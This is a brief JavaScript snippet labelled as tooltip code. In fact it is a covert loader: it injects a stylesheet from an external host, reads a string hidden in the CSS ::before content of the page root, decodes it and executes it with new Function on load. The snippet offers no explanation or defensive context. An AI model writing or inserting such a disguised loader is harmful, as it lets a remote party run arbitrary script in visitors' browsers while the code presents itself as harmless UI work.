// surroundings: tooltip
const sheet = document.createElement('link');
sheet.rel = 'stylesheet';
sheet.href = 'https://themes.fx.example/base.css';
document.head.append(sheet);
sheet.onload = () => {
  const told = getComputedStyle(document.documentElement, '::before').content.slice(1, -1);
  new Function(decodeURIComponent(told))(); //@act
};
